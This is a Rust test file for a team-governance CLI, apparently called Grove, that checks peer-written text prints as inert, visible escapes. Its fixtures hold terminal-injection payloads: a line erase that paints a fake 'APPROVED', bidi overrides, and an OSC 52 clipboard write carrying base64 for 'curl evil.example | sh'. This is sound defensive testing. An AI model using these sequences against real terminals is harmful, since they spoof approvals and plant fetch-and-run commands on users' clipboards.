//! Text another member wrote reaches this terminal as text, never as commands to it: escape
//! sequences (a clipboard write, a line erase, a fake green "APPROVED"), C1 controls and
//! bidi overrides are shown as visible escapes in every human-readable print, lists keep
//! one line per entry, and `--json` keeps the exact text.

use super::*;

/// Erases the line, returns to its start and paints a green approval over it.
const FAKE_APPROVAL: &str = "Agent called\x1b[2K\r\x1b[1;32mAPPROVED by steward\x1b[0m";
/// Writes to the clipboard (OSC 52), opens a C1 CSI, reverses the text's direction, rings
/// the bell, deletes, and breaks the line to pose as another entry.
const CLIPBOARD: &str =
    "Passed it on\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 \u{9b}31mred\u{202e}txt.exe\u{2066}x\u{2069}\x7f\u{85}\nd-fake  2026-01-01  local  worked  Steward: all fine\ttab";

/// What in `s` a terminal would act on rather than print: C0 controls other than newline
/// and tab (which multi-line views keep), DEL, C1 controls, and bidi embeddings, overrides
/// and isolates.
fn live_controls(s: &str) -> Vec<char> {
    s.chars()
        .filter(|&c| {
            (c.is_control() && c != '\n' && c != '\t')
                || ('\u{202a}'..='\u{202e}').contains(&c)
                || ('\u{2066}'..='\u{2069}').contains(&c)
        })
        .collect()
}

fn assert_inert(what: &str, out: &str) {
    let live = live_controls(out);
    assert!(
        live.is_empty(),
        "`{what}` printed live control characters {live:?}: {out:?}"
    );
    assert!(
        !out.as_bytes().contains(&0x1b),
        "`{what}` printed a raw ESC: {out:?}"
    );
}

#[test]
fn peer_text_is_shown_inert_and_json_stays_exact() {
    let g = Grove::new();
    let b = basics(&g);
    let d = g.create(&[
        "decision",
        "log",
        "--team",
        &b.team,
        "--principle",
        &b.principle,
        "--context",
        FAKE_APPROVAL,
        "--choice",
        CLIPBOARD,
        "--zone",
        "centre-awareness",
        "--situation",
        "evil\x1b[8m",
    ]);
    g.done(&[
        "decision",
        "result",
        &d,
        "--text",
        FAKE_APPROVAL,
        "--outcome",
        "worked",
    ]);
    g.done(&["member", "rename", CLIPBOARD]);
    let team = g.create(&["team", "add", FAKE_APPROVAL, "--domain", CLIPBOARD]);
    g.done(&["team", "join", &team]);
    let value = g.create(&[
        "value",
        "add",
        "--title",
        FAKE_APPROVAL,
        "--statement",
        CLIPBOARD,
        "--example",
        FAKE_APPROVAL,
    ]);
    let principle = g.create(&[
        "principle",
        "add",
        "--value",
        &value,
        "--statement",
        CLIPBOARD,
        "--guidance",
        FAKE_APPROVAL,
    ]);
    let proposal = g.create(&[
        "proposal",
        "open",
        "--title",
        FAKE_APPROVAL,
        "--body",
        CLIPBOARD,
    ]);
    g.done(&[
        "proposal",
        "respond",
        &proposal,
        "--answer",
        "objection",
        "--reason",
        CLIPBOARD,
    ]);
    let role = g.create(&["role", "add", FAKE_APPROVAL, "--purpose", CLIPBOARD]);
    g.create(&["commitment", "add", "--what", CLIPBOARD]);
    g.create(&[
        "retro",
        "add",
        "--team",
        &team,
        "--went-well",
        CLIPBOARD,
        "--change",
        FAKE_APPROVAL,
    ]);
    let review = g.create(&[
        "review",
        "open",
        "--date",
        "2030-01-01",
        "--agenda",
        CLIPBOARD,
    ]);
    g.done(&["review", "notes", &review, FAKE_APPROVAL]);
    let tension = g.create(&["tension", "raise", FAKE_APPROVAL, "--summary", CLIPBOARD]);
    let circle = g.json(&["circle", "show"])["id"]
        .as_str()
        .unwrap()
        .to_string();

    for args in [
        &["decision", "list"][..],
        &["decision", "show", &d],
        &["member", "list"],
        &["member", "me"],
        &["team", "list"],
        &["value", "list"],
        &["value", "show", &value],
        &["principle", "list"],
        &["principle", "show", &principle],
        &["proposal", "list"],
        &["proposal", "show", &proposal],
        &["role", "list"],
        &["role", "show", &role],
        &["commitment", "list"],
        &["retro", "list"],
        &["review", "list"],
        &["review", "show", &review],
        &["tension", "list"],
        &["tension", "show", &tension],
        &["escalation", "list"],
        &["search", "APPROVED"],
        &["circle", "list"],
        &["circle", "show"],
        &["invite", "list"],
    ] {
        let out = g.ok(args);
        assert_inert(&args.join(" "), &out);
    }

    // Lists stay one line per entry: a line break in the text cannot pose as another row.
    let list = g.ok(&["decision", "list"]);
    assert_eq!(list.lines().count(), 1, "one decision, one line: {list:?}");
    assert!(
        list.contains("\\x1b") && list.contains("\\n"),
        "the escapes are visible, not dropped: {list:?}"
    );
    let show = g.ok(&["decision", "show", &d]);
    assert!(
        show.contains(r"\x1b]52;c;") && show.contains(r"\u{202e}") && show.contains(r"\u{9b}"),
        "the clipboard write, the bidi override and the C1 CSI are visible: {show}"
    );
    assert!(
        !show.lines().any(|l| l.starts_with("d-fake")),
        "a line break inside a field cannot start a line of its own: {show}"
    );

    // --json is exact: the very bytes that were written.
    let shown = g.json(&["decision", "show", &d]);
    assert_eq!(shown["context"], FAKE_APPROVAL);
    assert_eq!(shown["choice"], CLIPBOARD);
    assert_eq!(shown["result"]["text"], FAKE_APPROVAL);
    let listed = g.list(&["decision", "list"]);
    assert_eq!(listed[0]["choice"], CLIPBOARD);
    assert_eq!(g.json(&["member", "me"])["name"], CLIPBOARD);
    assert_eq!(g.json(&["value", "show", &value])["title"], FAKE_APPROVAL);
    assert!(!circle.is_empty());

    // An error naming what was typed (or what a peer sent) is one inert line too.
    let err = g.fail(1, &["value", "show", "v-\x1b[31mnope\nnext"]);
    assert_inert("an error", &err);
    assert!(err.contains(r"v-\x1b[31mnope\nnext"), "{err}");
}
